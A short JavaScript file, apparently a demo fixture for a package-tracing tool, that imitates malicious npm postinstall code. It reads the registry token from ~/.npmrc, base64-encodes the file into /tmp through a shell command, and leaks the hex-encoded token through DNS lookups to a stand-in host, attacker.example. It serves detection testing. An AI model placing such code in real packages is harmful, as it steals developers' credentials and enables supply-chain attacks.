// Suspicious postinstall, in the style of real npm malware:
// 1. reads ~/.npmrc (registry token) and the environment,
// 2. runs inline shell (`sh -c` via child_process.execSync) that base64-encodes it into /tmp,
// 3. looks up x7f3a9.attacker.example and a name carrying the token hex-encoded,
// 4. writes a marker file to /tmp.
const fs = require('fs'), os = require('os'), dns = require('dns'), cp = require('child_process');
let token = '';
try {
  const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
  const m = rc.match(/_authToken=(\S+)/);
  if (m) token = m[1];
} catch (e) {}
try { cp.execSync('cat ~/.npmrc | base64 > /tmp/.npmrc.b64 && uname -a', { stdio: 'ignore' }); } catch (e) {}
fs.writeFileSync('/tmp/.pkgtrace-evil-demo-ran', String(process.env.NPM_TOKEN || ''));
const hex = Buffer.from(token).toString('hex').slice(0, 60);
dns.lookup('x7f3a9.attacker.example', () => {
  dns.lookup(hex + '.x7f3a9.attacker.example', () => {});
});
